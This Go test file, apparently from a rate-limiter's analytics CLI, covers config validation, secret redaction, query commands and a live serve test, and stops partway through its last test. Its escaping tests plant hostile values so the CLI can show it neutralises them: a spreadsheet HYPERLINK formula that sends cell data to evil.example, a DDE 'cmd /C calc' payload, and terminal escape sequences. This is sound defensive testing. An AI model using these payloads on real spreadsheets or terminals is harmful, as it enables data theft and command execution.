package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/ClickHouse/clickhouse-go/v2/lib/driver"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/redis/go-redis/v9"

	"github.com/edgelimit/edgelimit/analytics"
	"github.com/edgelimit/edgelimit/analytics/analyticstest"
	"github.com/edgelimit/edgelimit/consumer"
	"github.com/edgelimit/edgelimit/internal/envdoc"
	"github.com/edgelimit/edgelimit/internal/event"
	"github.com/edgelimit/edgelimit/internal/testenv"
	"github.com/edgelimit/edgelimit/limiter"
)

// env is a getenv over a map.
func env(m map[string]string) func(string) string { return func(k string) string { return m[k] } }

func writeFile(t *testing.T, body string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "analytics.yaml")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestEnvDocumented: docs/configuration.md's environment table lists
// exactly the variables the analytics reads (serve and the analyst commands alike).
func TestEnvDocumented(t *testing.T) {
	names, secrets := testenv.ConfigEnv(env(nil), loadConfig)
	envdoc.CheckEnv(t, "analytics", names, secrets)
}

func TestConfig(t *testing.T) {
	file := writeFile(t, `
clickhouse: {addr: "file-ch:9000", password: "chpass"}
redis: {addr: "file-redis:6379", prefix: edge}
token: "file-token-0123456789"
interval: 2s
stale_after: 5m
hot: {min_rate: 50, ttl: 90s}
nat: {min_distinct_keys: 5}
alerts: {alertmanager_url: "http://am:9093", labels: {cluster: c1}}
`)
	fc, err := loadConfig(file, env(map[string]string{
		"EDGELIMIT_CLICKHOUSE_ADDR":   "env-ch:9000",
		"EDGELIMIT_ANALYTICS_TOKEN":   "env-token-0123456789",
		"EDGELIMIT_ALERT_WEBHOOK_URL": "https://hooks.example/secret-path",
	}))
	if err != nil {
		t.Fatal(err)
	}
	cfg := fc.analyticsConfig().WithDefaults()
	switch {
	case fc.ClickHouse.Addr != "env-ch:9000":
		t.Errorf("clickhouse addr = %q, want the environment's", fc.ClickHouse.Addr)
	case fc.Redis.Addr != "file-redis:6379" || fc.Redis.Prefix != "edge":
		t.Errorf("redis = %+v, want the file's", fc.Redis)
	case fc.Token != "env-token-0123456789":
		t.Errorf("token not taken from the environment")
	case fc.Listen != "127.0.0.1:9092":
		t.Errorf("listen default = %q, want loopback 127.0.0.1:9092", fc.Listen)
	case cfg.Interval != 2*time.Second || cfg.StaleAfter != 5*time.Minute || cfg.Hot.MinRate != 50 || cfg.Hot.TTL != 90*time.Second || cfg.Hot.MinShare != 0.2:
		t.Errorf("analytics config = %+v", cfg)
	case cfg.NAT.MinDistinctKeys != 5 || cfg.NAT.MinDistinctUserAgents != 20:
		t.Errorf("nat config = %+v", cfg.NAT)
	case cfg.Alerts.AlertmanagerURL != "http://am:9093" || cfg.Alerts.WebhookURL != "https://hooks.example/secret-path" || cfg.Alerts.Labels["cluster"] != "c1":
		t.Errorf("alerts config = %+v", cfg.Alerts)
	}
	if err := fc.validateServe(); err != nil {
		t.Errorf("validateServe: %v", err)
	}

	// check prints the effective configuration with every secret redacted.
	var out bytes.Buffer
	err = run(context.Background(), []string{"check", "-config", file}, env(map[string]string{
		"EDGELIMIT_ANALYTICS_TOKEN": "env-token-0123456789", "EDGELIMIT_ALERT_WEBHOOK_URL": "https://hooks.example/secret-path",
		"EDGELIMIT_ALERTMANAGER_URL": "http://am-user:am-pass@am:9093/?token=am-query-secret",
	}), &out)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "alertmanager_url: http://am-user:xxxxx@am:9093/?token=xxxxx") {
		t.Errorf("check output lost the Alertmanager URL (want its password and query values redacted):\n%s", out.String())
	}
	for _, leak := range []string{"chpass", "token-0123456789", "secret-path", "am-pass", "am-query-secret"} {
		if strings.Contains(out.String(), leak) {
			t.Errorf("check printed the secret %q:\n%s", leak, out.String())
		}
	}
	if !strings.Contains(out.String(), "[redacted]") || !strings.Contains(out.String(), "min_rate: 50") {
		t.Errorf("check output:\n%s", out.String())
	}

	for name, tc := range map[string]struct {
		file string
		env  map[string]string
		want string
	}{
		"no clickhouse":    {"", nil, "clickhouse.addr"},
		"misspelt field":   {"clickhose: {addr: x:1}\n", nil, "clickhose"},
		"bad threshold":    {"clickhouse: {addr: x:1}\nhot: {min_share: 3}\n", nil, "min share"},
		"both redis":       {"clickhouse: {addr: x:1}\n", map[string]string{"EDGELIMIT_REDIS_ADDR": "a:1", "EDGELIMIT_REDIS_CLUSTER_ADDRS": "b:1"}, "not both"},
		"braces in prefix": {"clickhouse: {addr: x:1}\nredis: {prefix: 'a{b}'}\n", nil, "braces"},
		"bad listen":       {"clickhouse: {addr: x:1}\nlisten: nowhere\n", nil, "listen"},
		"bad alertmanager": {"clickhouse: {addr: x:1}\nalerts: {alertmanager_url: 'am:9093'}\n", nil, "alertmanager url"},
		"bad log level":    {"clickhouse: {addr: x:1}\nlog_level: loud\n", nil, "log_level"},
		"TLS for an http alertmanager": {"clickhouse: {addr: x:1}\nalerts: {alertmanager_url: 'http://am:9093', alertmanager_client: {tls: {enabled: true}}}\n", nil,
			"alerts.alertmanager_client.tls is set but alerts.alertmanager_url is http://"},
		"TLS for an http webhook": {"clickhouse: {addr: x:1}\nalerts: {webhook_url: 'http://hooks:80/T0KEN'}\n", map[string]string{"EDGELIMIT_ALERT_WEBHOOK_TLS": "true"},
			"alerts.webhook_client.tls is set but alerts.webhook_url is http://"},
	} {
		p := ""
		if tc.file != "" {
			p = writeFile(t, tc.file)
		}
		if _, err := loadConfig(p, env(tc.env)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: loadConfig error = %v, want one about %q", name, err, tc.want)
		}
	}
	// serve needs a token and, unless dry_run, Redis.
	fc, _ = loadConfig(writeFile(t, "clickhouse: {addr: x:1}\n"), env(nil))
	if err := fc.validateServe(); err == nil || !strings.Contains(err.Error(), "token") || !strings.Contains(err.Error(), "redis") {
		t.Errorf("validateServe without token and redis = %v", err)
	}
	fc.DryRun, fc.Token = true, "0123456789abcdef"
	if err := fc.validateServe(); err != nil {
		t.Errorf("validateServe dry run with a token = %v", err)
	}
	if err := run(context.Background(), []string{"frobnicate"}, env(nil), io.Discard); err == nil {
		t.Error("run(frobnicate) = nil, want an error")
	}
}

// database creates a migrated ClickHouse database for the test and returns
// a connection, the server's address and the database's name.
func database(t *testing.T) (driver.Conn, string, string) {
	t.Helper()
	addr := testenv.ClickHouseAddr(t)
	conn, db := testenv.NewDatabase(t, addr, "analytics_cmd_test")
	if err := consumer.Migrate(context.Background(), conn, consumer.Retention{}); err != nil {
		t.Fatal(err)
	}
	return conn, addr, db
}

// mustInsert writes rows to conn's decisions table, rolled up batch by
// batch as the consumer does.
func mustInsert(t *testing.T, conn driver.Conn, rows []event.Decision) {
	t.Helper()
	if err := analyticstest.Insert(context.Background(), conn, rows, consumer.Backfill); err != nil {
		t.Fatal(err)
	}
}

func fleet(now time.Time) analyticstest.Fleet {
	return analyticstest.Fleet{
		Now: now, Window: 10 * time.Minute, Gateways: []string{"gw-a", "gw-b", "gw-c"},
		Keys: 200, PerKeyRate: 0.05, Seed: 7,
		Hot:     []analyticstest.HotKey{{KeyID: "hot-1", Name: "acme", Rate: 60, For: 90 * time.Second, Weights: map[string]float64{"gw-a": 3, "gw-b": 1}}},
		NAT:     []analyticstest.NATAddr{{IP: "203.0.113.9", Clients: 40, Requests: 800}, {IP: "198.51.100.7", Clients: 25, Requests: 500}},
		Outages: []analyticstest.Outage{{Gateway: "gw-c", From: now.Add(-5 * time.Minute).Truncate(time.Minute), For: time.Minute, Share: 0.5, Mode: event.ModeFailClosed}},
	}
}

// seededFleet inserts fleet's rows, at a now 30s into the minute before
// the real one, into a database of the test's own.
func seededFleet(t *testing.T) (addr, db string, now time.Time, rows []event.Decision) {
	t.Helper()
	conn, addr, db := database(t)
	now = time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
	rows = fleet(now).Rows()
	mustInsert(t, conn, rows)
	return addr, db, now, rows
}

func TestQueryCommands(t *testing.T) {
	addr, db, now, rows := seededFleet(t)
	getenv := env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db})
	from, to := now.Add(-15*time.Minute).Format(time.RFC3339), now.Add(time.Minute).Format(time.RFC3339)
	cli := func(args ...string) string {
		t.Helper()
		var out bytes.Buffer
		if err := run(context.Background(), args, getenv, &out); err != nil {
			t.Fatalf("analytics %s: %v\n%s", strings.Join(args, " "), err, out.String())
		}
		return out.String()
	}

	// trends, three formats, the same numbers.
	args := []string{"trends", "-from", from, "-to", to, "-by", "gateway", "-bucket", "minute"}
	var denied, requests, failClosed int64
	for _, d := range rows {
		requests++
		if !d.Allowed {
			denied++
		}
		if d.Mode == event.ModeFailClosed {
			failClosed++
		}
	}
	recs, err := csv.NewReader(strings.NewReader(cli(append(args, "-format", "csv")...))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(recs[0], ","); got != "bucket,gateway,requests,denied,ratio,rate_limited,fail_closed,shadow,fail_open,cost,cost_allowed" {
		t.Errorf("trends csv header = %q", got)
	}
	var csvReq, csvDen, csvLimited, csvClosed int64
	for _, r := range recs[1:] {
		a, _ := strconv.ParseInt(r[2], 10, 64)
		b, _ := strconv.ParseInt(r[3], 10, 64)
		c, _ := strconv.ParseInt(r[5], 10, 64)
		d, _ := strconv.ParseInt(r[6], 10, 64)
		csvReq, csvDen, csvLimited, csvClosed = csvReq+a, csvDen+b, csvLimited+c, csvClosed+d
		if _, err := time.Parse(time.RFC3339, r[0]); err != nil {
			t.Errorf("trends csv bucket %q: %v", r[0], err)
		}
	}
	if csvReq != requests || csvDen != denied || csvClosed != failClosed || csvLimited != denied-failClosed || failClosed == 0 {
		t.Errorf("trends csv sums %d requests, %d denied (%d rate-limited, %d fail-closed); want %d, %d (%d, %d)",
			csvReq, csvDen, csvLimited, csvClosed, requests, denied, denied-failClosed, failClosed)
	}
	var pts []analytics.TrendPoint
	if err := json.Unmarshal([]byte(cli(append(args, "-format", "json")...)), &pts); err != nil {
		t.Fatal(err)
	}
	if len(pts) != len(recs)-1 {
		t.Errorf("trends json has %d points, csv %d", len(pts), len(recs)-1)
	}
	tbl := strings.Split(strings.TrimSpace(cli(args...)), "\n")
	if len(tbl) != len(recs) || !strings.HasPrefix(tbl[0], "bucket") || len(strings.Fields(tbl[1])) != 11 {
		t.Errorf("trends table has %d lines (want %d), first %q %q", len(tbl), len(recs), tbl[0], tbl[1])
	}

	var keys []analytics.KeyRejections
	if err := json.Unmarshal([]byte(cli("top-keys", "-from", from, "-to", to, "-limit", "3", "-format", "json")), &keys); err != nil {
		t.Fatal(err)
	}
	if len(keys) != 3 || keys[0].KeyID != "hot-1" || keys[0].KeyName != "acme" {
		t.Errorf("top-keys = %+v, want 3 keys, hot-1 (acme) first", keys)
	}
	if out := cli("hot-keys", "-from", now.Add(-time.Minute).Truncate(time.Minute).Format(time.RFC3339), "-to", now.Format(time.RFC3339)); !strings.Contains(out, "hot-1") || !strings.Contains(out, "gw-a=0.5") {
		// Shares follow demand max-min over what was allowed: gw-b asks
		// for half the allowed requests (3:1, half denied), gw-a for more.
		t.Errorf("hot-keys table:\n%s", out)
	}
	if out := cli("hot-keys", "-key", "hot-1", "-from", from, "-to", to, "-format", "csv"); !strings.HasPrefix(out, "bucket,gateway,requests,denied\n") || !strings.Contains(out, ",gw-b,") {
		t.Errorf("hot-keys -key history:\n%s", out)
	}
	nat, err := csv.NewReader(strings.NewReader(cli("nat-ips", "-from", from, "-to", to, "-format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(nat) != 3 || nat[1][1] != "ip:203.0.113.9" || nat[2][1] != "ip:198.51.100.7" {
		t.Errorf("nat-ips csv = %v, want the two planted addresses", nat)
	}
	if out := cli("nat-ips", "-ip", "203.0.113.9", "-from", from, "-to", to, "-bucket", "hour", "-format", "json"); !strings.Contains(out, `"distinct_keys": 40`) {
		t.Errorf("nat-ips -ip history:\n%s", out)
	}
	if out := cli("fail-minutes", "-from", from, "-to", to, "-format", "csv"); strings.Count(out, "\n") != 2 || !strings.Contains(out, ",gw-c,") {
		t.Errorf("fail-minutes:\n%s", out)
	}
	if out := cli("store-health", "-from", from, "-to", to, "-gateway", "gw-c", "-format", "csv"); strings.Contains(out, "gw-a") || !strings.Contains(out, "gw-c") {
		t.Errorf("store-health -gateway gw-c:\n%s", out)
	}
	if out := cli("trends", "-from", from, "-to", to, "-route", "/nowhere", "-format", "json"); strings.TrimSpace(out) != "[]" {
		t.Errorf("empty trends json = %q, want []", out)
	}

	for _, bad := range [][]string{
		{"trends", "-format", "xml"},
		{"trends", "-bucket", "week"},
		{"trends", "-by", "ip"},
		{"trends", "-from", "last tuesday"},
		{"nat-ips", "-ip", "not-an-ip"},
		{"trends", "extra"},
		{"trends", "-tz", "Mars/Olympus"},
		{"trends", "-kind", "robot"},
		{"key"},
		{"key", "acme", "extra"},
	} {
		if err := run(context.Background(), bad, getenv, io.Discard); err == nil {
			t.Errorf("analytics %s = nil error, want one", strings.Join(bad, " "))
		}
	}
}

// TestServe runs "analytics serve" against real ClickHouse, Redis and
// Alertmanager: a key turning hot gets a split that a gateway's
// limiter.Watcher loads; a fail-open spike reaches Alertmanager and
// resolves when it subsides; the API and dashboard need the token; SIGTERM
// (ctx) stops it in order.
func TestServe(t *testing.T) {
	conn, chAddr, db := database(t)
	redisAddr := testenv.RedisAddr(t)
	am := testenv.AlertmanagerURL(t)
	now := time.Now().UTC()
	base := fleet(now)
	base.Hot = nil
	base.Outages = nil
	ctx := context.Background()
	mustInsert(t, conn, base.Rows())

	listen, adminListen := testenv.FreeAddr(t), testenv.FreeAddr(t)
	run := strconv.FormatInt(time.Now().UnixNano(), 36)
	prefix := "analytics-serve-" + run
	token := "serve-token-" + run + "-0123456789"
	file := writeFile(t, fmt.Sprintf(`
listen: %q
admin_listen: %q
interval: 1s
redis: {prefix: %q}
hot: {min_rate: 20, min_share: -1}
alerts:
  window: 1m
  store_unavailable_ratio: 0.2
  fail_open_ratio: 0.2
  labels: {run: %q}
`, listen, adminListen, prefix, run))
	var logs testenv.LogBuffer
	stop := testenv.Run(t, func(ctx context.Context) error {
		return runCmd(ctx, []string{"serve", "-config", file}, env(map[string]string{
			"EDGELIMIT_CLICKHOUSE_ADDR": chAddr, "EDGELIMIT_CLICKHOUSE_DATABASE": db, "EDGELIMIT_REDIS_ADDR": redisAddr,
			"EDGELIMIT_ANALYTICS_TOKEN": token, "EDGELIMIT_ALERTMANAGER_URL": am,
		}), &logs)
	})
	base0 := "http://" + listen
	deadline := time.Now().Add(15 * time.Second)
	for {
		resp, err := http.Get(base0 + "/healthz")
		if err == nil {
			resp.Body.Close()
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("serve did not come up: %v\n%s", err, logs.String())
		}
		time.Sleep(100 * time.Millisecond)
	}

	admin := "http://" + adminListen
	if resp, err := http.Get(admin + "/readyz"); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("GET /readyz = %v, %v; want 200 with ClickHouse up", resp, err)
	} else {
		resp.Body.Close()
	}

	// The API wants the token.
	for tok, want := range map[string]int{"": 401, "wrong-token-0123456789": 401, token: 200} {
		req, _ := http.NewRequest(http.MethodGet, base0+"/api/status", nil)
		if tok != "" {
			req.Header.Set("Authorization", "Bearer "+tok)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("GET /api/status with token %q = %d, want %d", tok, resp.StatusCode, want)
		}
	}

	// What-if is wired to the gateway's YAML parser: a proposal replays,
	// a misspelt field is a 400 naming its line.
	for body, want := range map[string]int{
		`{"rules": "plans:\n  free:\n    rules:\n      - {name: m, limit: 5, period: 1m}\n", "from": "-1h"}`: 200,
		`{"rules": "plans:\n  free:\n    rules:\n      - {name: m, limt: 5, period: 1m}\n", "from": "-1h"}`:  400,
	} {
		req, _ := http.NewRequest(http.MethodPost, base0+"/api/whatif", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != want || want == 200 && !strings.Contains(string(b), `"read"`) || want == 400 && !strings.Contains(string(b), "line 4: field limt not found") {
			t.Errorf("POST /api/whatif %s = %d %s, want %d", body, resp.StatusCode, b, want)
		}
	}

	// A key turns hot: its decisions land in ClickHouse (as the consumer
	// would write them), and a gateway's watcher, polling every second,
	// must apply the split.
	rdb := redis.NewClient(&redis.Options{Addr: redisAddr})
	defer rdb.Close()
	w := limiter.NewWatcher(limiter.NewDirectiveStore(rdb, prefix), time.Second)
	wctx, wstop := context.WithCancel(ctx)
	defer wstop()
	go w.Run(wctx)
	hotAt := time.Now()
	hot := analyticstest.Fleet{Now: hotAt, Window: time.Minute, Gateways: base.Gateways, Seed: 9,
		Hot: []analyticstest.HotKey{{KeyID: "hot-1", Rate: 100, For: 30 * time.Second, Weights: map[string]float64{"gw-a": 3, "gw-b": 1}}}}
	mustInsert(t, conn, hot.Rows())
	key := limiter.DirectiveKey("api_key", "hot-1")
	deadline = time.Now().Add(20 * time.Second)
	for {
		if s, ok := w.Current().Splits[key]; ok {
			t.Logf("hot key to split applied by a watcher: %.1fs (shares %v)", time.Since(hotAt).Seconds(), s.Shares)
			// Max-min by demand over what was allowed (3:1, half denied):
			// each asks at least an equal part, so they split evenly.
			if a, b := s.Shares["gw-a"], s.Shares["gw-b"]; math.Abs(a-b) > 0.05 || a+b < 0.95 {
				t.Errorf("split shares = %v, want gw-a and gw-b about 0.49 each", s.Shares)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no split for %s within 20s\n%s", key, logs.String())
		}
		time.Sleep(100 * time.Millisecond)
	}

	// A fail-open spike: the fleet alert reaches Alertmanager.
	spikeAt := time.Now()
	var spike []event.Decision
	for i := 0; i < 4000; i++ {
		spike = append(spike, event.Decision{
			Time: spikeAt.Add(-time.Duration(i) * time.Millisecond), GatewayID: "gw-c", KeyID: "key-" + strconv.Itoa(i%50),
			KeyKind: event.KindAPIKey, ClientIP: "10.0.0.1", Route: "/v1/search", Plan: "free", Allowed: true,
			StoreStatus: event.StoreUnavailable, Mode: event.ModeFailOpen,
		})
	}
	mustInsert(t, conn, spike)
	deadline = time.Now().Add(30 * time.Second)
	for {
		names, err := testenv.ActiveAlerts(t, fmt.Sprintf("run=%q", run))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(strings.Join(names, ","), analytics.AlertFailOpen) {
			t.Logf("fail-open spike to alert in Alertmanager: %.1fs (%v)", time.Since(spikeAt).Seconds(), names)
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("fail-open alert not in Alertmanager within 30s (have %v)\n%s", names, logs.String())
		}
		time.Sleep(200 * time.Millisecond)
	}

	// The store comes back: healthy decisions bring the ratio under the
	// threshold, and the alert resolves in Alertmanager.
	healthy := analyticstest.Fleet{Now: time.Now(), Window: 5 * time.Second, Gateways: base.Gateways, Keys: 2000, PerKeyRate: 3, Seed: 11}
	mustInsert(t, conn, healthy.Rows())
	resolveAt := time.Now()
	deadline = time.Now().Add(30 * time.Second)
	for {
		names, err := testenv.ActiveAlerts(t, fmt.Sprintf("run=%q", run))
		if err != nil {
			t.Fatal(err)
		}
		if len(names) == 0 {
			t.Logf("recovery to alert resolved in Alertmanager: %.1fs", time.Since(resolveAt).Seconds())
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("alerts %v not resolved within 30s\n%s", names, logs.String())
		}
		time.Sleep(200 * time.Millisecond)
	}

	// The operator endpoints are on the admin listener only, not beside the API.
	if resp, err := http.Get(base0 + "/metrics"); err != nil || resp.StatusCode != http.StatusNotFound {
		t.Errorf("GET /metrics on the API listener = %v, %v; want 404 (not served there)", resp, err)
	} else {
		resp.Body.Close()
	}
	resp, err := http.Get(admin + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), `edgelimit_analytics_runs_total{result="ok"}`) || !strings.Contains(string(body), `edgelimit_analytics_directive_writes_total{kind="split"}`) {
		t.Errorf("/metrics lacks the analytics series")
	}

	if err := stop(); err != nil {
		t.Errorf("serve returned %v after ctx ended", err)
	}
	if !strings.Contains(logs.String(), "analytics stopped") {
		t.Errorf("serve log lacks the stop line:\n%s", logs.String())
	}
}

// runCmd is run, named apart from the test's run label.
var runCmd = run

// TestExampleConfig keeps deploy/analytics.example.yaml valid.
func TestExampleConfig(t *testing.T) {
	fc, err := loadConfig(filepath.Join("..", "..", "deploy", "analytics.example.yaml"), env(map[string]string{
		"EDGELIMIT_ANALYTICS_TOKEN": "example-token-0123456789",
	}))
	if err != nil {
		t.Fatalf("example config: %v", err)
	}
	if err := fc.validateServe(); err != nil {
		t.Errorf("example config cannot serve: %v", err)
	}
	// The example spells out the defaults; a drift means one of them changed.
	diff := cmp.Diff(analytics.Config{}.WithDefaults(), fc.analyticsConfig().WithDefaults(),
		cmpopts.IgnoreFields(analytics.AlertConfig{}, "AlertmanagerURL", "Labels"))
	if diff != "" {
		t.Errorf("example config's thresholds differ from the defaults (-defaults +example):\n%s", diff)
	}
}

func TestVersion(t *testing.T) {
	for _, arg := range []string{"-version", "version"} {
		var out bytes.Buffer
		if err := run(context.Background(), []string{arg}, env(nil), &out); err != nil || !strings.HasPrefix(out.String(), "analytics dev (revision ") {
			t.Errorf("run %s = %v, %q; want \"analytics dev (revision ...\"", arg, err, out.String())
		}
	}
}

// TestConfigJoinsEveryError: one run names every problem of the file, the
// command's and the analytics package's alike.
func TestConfigJoinsEveryError(t *testing.T) {
	p := writeFile(t, "listen: nowhere\nlog_level: loud\nhot: {min_share: 3}\nnat: {max_factor: 5000}\n")
	_, err := loadConfig(p, env(nil))
	for _, want := range []string{"clickhouse.addr", "listen", "log_level", "min share", "max factor"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("loadConfig = %v, want it to mention %q", err, want)
		}
	}
}

// TestKeyCommand: analytics key NAME|ID prints the key's page, its split
// read from the real Redis, in every format; without Redis it says the
// directives were not read.
func TestKeyCommand(t *testing.T) {
	addr, db, now, rows := seededFleet(t)
	prefix := fmt.Sprintf("analytics-key-test-%d", time.Now().UnixNano())
	rdb := redis.NewClient(&redis.Options{Addr: testenv.RedisAddr(t)})
	t.Cleanup(func() { rdb.Close() })
	split := limiter.SplitDirective{Key: limiter.DirectiveKey("api_key", "hot-1"), Shares: map[string]float64{"gw-a": 0.75, "gw-b": 0.25},
		Expires: time.Now().Add(time.Hour).UTC().Truncate(time.Second)}
	if err := limiter.NewDirectiveStore(rdb, prefix).WriteSplits(context.Background(), []limiter.SplitDirective{split}); err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db,
		"EDGELIMIT_REDIS_ADDR": testenv.RedisAddr(t), "EDGELIMIT_REDIS_PREFIX": prefix}
	from, to := now.Add(-15*time.Minute).Format(time.RFC3339), now.Add(time.Minute).Format(time.RFC3339)
	cli := func(vars map[string]string, args ...string) string {
		t.Helper()
		var out bytes.Buffer
		if err := run(context.Background(), args, env(vars), &out); err != nil {
			t.Fatalf("analytics %s: %v\n%s", strings.Join(args, " "), err, out.String())
		}
		return out.String()
	}

	var want, denied int64
	gateways := map[string]bool{}
	for _, d := range rows {
		if d.KeyID == "hot-1" {
			want++
			gateways[d.GatewayID] = true
			if !d.Allowed {
				denied++
			}
		}
	}
	for _, key := range []string{"acme", "hot-1"} {
		var rep analytics.KeyReport
		// The id may come before or after the flags.
		if err := json.Unmarshal([]byte(cli(vars, "key", key, "-from", from, "-to", to, "-format", "json")), &rep); err != nil {
			t.Fatal(err)
		}
		if rep.Total.Requests != want || rep.Total.Denied != denied || len(rep.Gateways) != len(gateways) ||
			len(rep.Keys) != 1 || rep.Keys[0].KeyName != "acme" || len(rep.History) == 0 {
			t.Errorf("key %s = %+v, want hot-1 (acme) with %d requests, %d denied at %d gateways", key, rep, want, denied, len(gateways))
		}
		if diff := cmp.Diff([]limiter.SplitDirective{split}, rep.Splits); rep.Directives != "redis" || diff != "" {
			t.Errorf("key %s directives %q, splits (-want +got):\n%s", key, rep.Directives, diff)
		}
	}
	out := cli(vars, "key", "-from", from, "-to", to, "-bucket", "5m", "-tz", "Asia/Kolkata", "-format", "csv", "acme")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sections := map[string]int{}
	for _, r := range recs[1:] {
		sections[r[0]]++
		if r[0] == "history" && !strings.HasSuffix(r[1], "+05:30") {
			t.Errorf("history bucket %q not in Asia/Kolkata", r[1])
		}
		if r[0] == "total" && r[2] != strconv.FormatInt(want, 10) {
			t.Errorf("total row %v, want %d requests", r, want)
		}
	}
	for _, s := range []string{"key", "total", "rule", "route", "gateway", "plan", "method", "split", "history"} {
		if sections[s] == 0 {
			t.Errorf("key csv has no %s rows:\n%s", s, out)
		}
	}
	delete(vars, "EDGELIMIT_REDIS_ADDR")
	if out := cli(vars, "key", "acme", "-from", from, "-to", to); !strings.Contains(out, "directives not read") || !strings.Contains(out, "acme") {
		t.Errorf("key without Redis:\n%s", out)
	}
}

// TestCredentialsInAddressRefused: a ClickHouse address holding a password
// is refused by name, and the password is not repeated (-check would print
// it, every failed dial log it).
func TestCredentialsInAddressRefused(t *testing.T) {
	p := writeFile(t, "")
	for _, addr := range []string{"default:hunter2@ch:9000", "clickhouse://default:hunter2@ch:9000"} {
		_, err := loadConfig(p, env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr}))
		if err == nil || !strings.Contains(err.Error(), "clickhouse.addr") || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("clickhouse.addr %q: loadConfig = %v, want an error naming clickhouse.addr without the password", addr, err)
		}
	}
}

// TestCSVFormulas: names that come from configurations and clients (a
// key's name, a route, a plan, a method a client sent, a gateway id) leave
// every -format csv export as plain text, never as a formula a
// spreadsheet would run, in every column; numbers stay numbers.
func TestCSVFormulas(t *testing.T) {
	conn, addr, db := database(t)
	now := time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
	const name = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	var rows []event.Decision
	for i := range 6 {
		rows = append(rows, event.Decision{
			Time: now.Add(-time.Duration(i) * time.Second), GatewayID: "@gw", KeyID: "k-formula", KeyKind: event.KindAPIKey,
			KeyName: name, ClientIP: "192.0.2.1", Route: "+cmd|' /C calc'!A0", Method: "-2+3", Plan: "\tfree",
			BindingRule: "\r=1+1", Allowed: i%2 == 0, Limit: 10, Cost: 1,
		})
	}
	mustInsert(t, conn, rows)
	getenv := env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db})
	from, to := now.Add(-5*time.Minute).Format(time.RFC3339), now.Add(time.Minute).Format(time.RFC3339)
	for _, args := range [][]string{
		{"top-keys"},
		{"key", name},
		{"trends", "-by", "key"},
		{"trends", "-by", "route"},
		{"hot-keys", "-key", "k-formula"},
		{"store-health"},
	} {
		var out bytes.Buffer
		args = append(args, "-from", from, "-to", to, "-format", "csv")
		if err := run(context.Background(), args, getenv, &out); err != nil {
			t.Fatalf("analytics %s: %v", strings.Join(args, " "), err)
		}
		recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil {
			t.Fatalf("analytics %s: %v", strings.Join(args, " "), err)
		}
		if len(recs) < 2 {
			t.Errorf("analytics %s: %d records, want the planted key's rows:\n%s", strings.Join(args, " "), len(recs), out.String())
		}
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("analytics %s: cell %q is a formula; want it prefixed with '", strings.Join(args, " "), c)
				}
			}
		}
	}
}

// TestTableEscapesControlCharacters: key names, routes, plans and gateway
// ids come from traffic and configuration. In the CLI's table output a
// terminal control sequence among them (here one that clears the screen,
// one that retitles the window, a bidi override) or a tab or newline, or a byte that is not UTF-8, must
// show as an escape, not act, and each result stay one line; JSON and CSV
// keep the values as they are, encoded.
func TestTableEscapesControlCharacters(t *testing.T) {
	conn, addr, db := database(t)
	now := time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
	const (
		name    = "acme\x1b[2J\x1b]0;owned\x07"
		route   = "/v1/\u202eorders\tx"
		gateway = "gw\r\nfake-row"
	)
	var rows []event.Decision
	for i := range 20 {
		rows = append(rows, event.Decision{Time: now.Add(-time.Duration(i) * time.Second), GatewayID: gateway,
			KeyID: "k-1", KeyName: name, KeyKind: event.KindAPIKey, ClientIP: "192.0.2.1", Route: route, Method: "GET",
			Plan: "free\u009b31m\xff", BindingRule: "per_minute", Allowed: i%2 == 0, Limit: 10, Mode: event.ModeFailClosed, StoreStatus: event.StoreUnavailable})
	}
	mustInsert(t, conn, rows)
	getenv := env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db})
	from, to := now.Add(-15*time.Minute).Format(time.RFC3339), now.Add(time.Minute).Format(time.RFC3339)
	for _, args := range [][]string{
		{"top-keys", "-from", from, "-to", to},
		{"key", "k-1", "-from", from, "-to", to},
